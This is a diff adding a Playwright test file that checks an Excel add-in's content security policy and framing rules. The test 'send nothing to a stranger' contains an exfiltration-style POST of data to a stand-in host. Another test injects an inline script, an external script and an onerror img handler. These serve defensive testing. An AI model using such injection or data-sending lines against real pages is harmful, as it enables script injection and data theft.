@@ -1,0 +1,122 @@
+import type { BrowserContext, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { launchBrowser } from './lib/browser';
+import { startHouse, type House } from './lib/house';
+
+const OFFICE_JS = /^https:\/\/appsforoffice\.(microsoft\.com|cdn\.partner\.office365\.cn)\//;
+/** Enough of office.js for the pane to learn that it is not in Excel. */
+const STAND_IN = 'window.Office = { HostType: { Excel: "Excel" }, onReady: () => Promise.resolve({ host: null, platform: null }), context: {} };';
+/** Where the pages seem to come from, so that the browser sees two sites of the network, as it will. */
+const OURS = 'https://kaohe.example.org';
+
+let house: House;
+let browser: BrowserContext;
+beforeAll(async () => {
+  house = await startHouse();
+  browser = await launchBrowser();
+  await browser.route(OFFICE_JS, (route) => route.fulfill({ contentType: 'text/javascript', body: STAND_IN }));
+  await browser.route(`${OURS}/**`, async (route) => {
+    const { pathname } = new URL(route.request().url());
+    await route.fulfill({ response: await route.fetch({ url: house.web + pathname }) });
+  });
+});
+afterAll(async () => {
+  await browser?.close();
+  await house?.stop();
+});
+
+interface Watched {
+  readonly page: Page;
+  /** What the policy forbade: directive and what it was about. */
+  readonly violations: string[];
+}
+
+async function watched(path: string): Promise<Watched> {
+  const page = await browser.newPage();
+  const violations: string[] = [];
+  await page.exposeFunction('violated', (what: string) => void violations.push(what));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
+      (window as unknown as { violated(what: string): void }).violated(`${effectiveDirective} ${blockedURI} ${sample}`);
+    });
+  });
+  await page.goto(house.web + path, { timeout: 30_000 });
+  return { page, violations };
+}
+
+describe('pages under their content security policy', () => {
+  it.each(['/taskpane.html', '/taskpane.21vianet.html'])('%s shows its pane, and asks for nothing forbidden', async (path) => {
+    const { page, violations } = await watched(path);
+    await page.locator('#pane > *').first().waitFor({ timeout: 20_000 });
+    await page.waitForTimeout(500);
+    expect(violations).toEqual([]);
+    await page.close();
+  });
+
+  it('the preview opens a workbook, calculates it and shows its pane, and asks for nothing forbidden', async () => {
+    const { page, violations } = await watched('/preview.html');
+    await page.waitForFunction(() => window.preview !== undefined, undefined, { timeout: 30_000 });
+    await page.locator('#pane > *').first().waitFor({ timeout: 20_000 });
+    await page.waitForTimeout(1500);
+    expect(violations).toEqual([]);
+    await page.close();
+  });
+
+  it('the pages about the documents load without anything forbidden', async () => {
+    const { page, violations } = await watched('/rulebooks/index.html');
+    await page.waitForTimeout(200);
+    expect(violations).toEqual([]);
+    await page.close();
+  });
+
+  it('run no script that was written into them, and load none of a stranger', async () => {
+    const { page, violations } = await watched('/taskpane.html');
+    await page.evaluate(() => {
+      for (const fill of [(s: HTMLScriptElement) => (s.text = 'window.ran = true'), (s: HTMLScriptElement) => (s.src = 'https://stranger.example/x.js')]) {
+        const script = document.createElement('script');
+        fill(script);
+        document.body.append(script);
+      }
+      document.body.insertAdjacentHTML('beforeend', '<img src="/nothing.png" onerror="window.ran = true">');
+    });
+    await expect.poll(() => violations.length, { timeout: 5000 }).toBeGreaterThanOrEqual(3);
+    expect(await page.evaluate(() => (window as { ran?: boolean }).ran)).toBeUndefined();
+    await page.close();
+  });
+
+  it('send nothing to a stranger', async () => {
+    const { page, violations } = await watched('/preview.html');
+    const outcome = await page.evaluate(() => fetch('https://stranger.example/', { method: 'POST', body: 'facts' }).then(() => 'sent', () => 'held back'));
+    expect(outcome).toBe('held back');
+    await expect.poll(() => violations.join('\n'), { timeout: 5000 }).toContain('connect-src https://stranger.example');
+    await page.close();
+  });
+});
+
+describe('framing', () => {
+  it.each<[string, string, boolean]>([
+    ['Excel on the web', 'https://excel.officeapps.live.com/', true],
+    ['Excel on the web of 21Vianet', 'https://excel.partner.officewebapps.cn/', true],
+    ['SharePoint', 'https://county.sharepoint.com/', true],
+    ['a stranger', 'https://stranger.example/', false],
+    ['a stranger that is called like Office', 'https://officeapps.live.com.stranger.example/', false],
+  ])('by %s', async (_who, host, shown) => {
+    expect(await framed(host, '/taskpane.html')).toBe(shown);
+  });
+
+  it('of the preview is for nobody, not even Office', async () => {
+    expect(await framed('https://excel.officeapps.live.com/', '/preview.html')).toBe(false);
+  });
+});
+
+/** Whether a page of that host that frames ours gets to see it loaded. */
+async function framed(host: string, path: string): Promise<boolean> {
+  const page = await browser.newPage();
+  await page.route(host, (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${OURS}${path}"></iframe>` }));
+  await page.goto(host, { timeout: 30_000 });
+  await page.waitForTimeout(700);
+  const frame = page.frames().find((each) => each !== page.mainFrame());
+  const loaded = (await frame?.locator('#pane').count().catch(() => 0)) ?? 0;
+  await page.close();
+  return loaded > 0;
+}
